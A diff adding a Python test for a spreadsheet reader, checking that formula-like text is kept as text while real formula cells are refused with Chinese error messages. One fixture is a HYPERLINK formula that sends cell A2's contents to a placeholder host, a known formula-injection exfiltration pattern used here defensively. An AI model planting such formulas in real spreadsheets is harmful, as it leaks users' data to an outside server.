@@ -266,3 +266,31 @@ def test_xml_bomb_does_not_grow_memory():
     grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
     assert peak < 100 * 1024 * 1024
     assert grown_kb < 100 * 1024
+
+
+def test_read_sheet_keeps_formula_like_text_but_refuses_formula_cells():
+    spec = ss.SheetSpec(
+        name="数据",
+        columns=(ss.Column("name", "名称"), ss.Column("amount", "金额", ss.parse_amount)),
+    )
+    buffer = io.BytesIO()
+    text_rows = [[text.strip(), "1"] for text in INJECTIONS]
+    ss.write_workbook(buffer, [ss.OutSheet("数据", [ss.OutColumn("名称"), ss.OutColumn("金额")], text_rows)])
+    report = ss.ErrorReport()
+    rows = list(ss.read_sheet(ss.open_workbook(buffer), spec, report))
+    assert not report, report.as_list()
+    assert [values["name"] for _row, values in rows] == [text.strip() for text in INJECTIONS]
+
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    sheet.title = "数据"
+    sheet.append(["名称", "金额"])
+    sheet.append(['=HYPERLINK("http://x/?"&A2)', "=1+1"])  # openpyxl writes both as formula cells
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    report = ss.ErrorReport()
+    assert list(ss.read_sheet(ss.open_workbook(buffer), spec, report)) == []
+    assert [(e["column"], e["reason"]) for e in report.as_list()] == [
+        ("名称", "不接受公式，请填写文字"),
+        ("金额", "不接受公式，请填写数值"),
+    ]
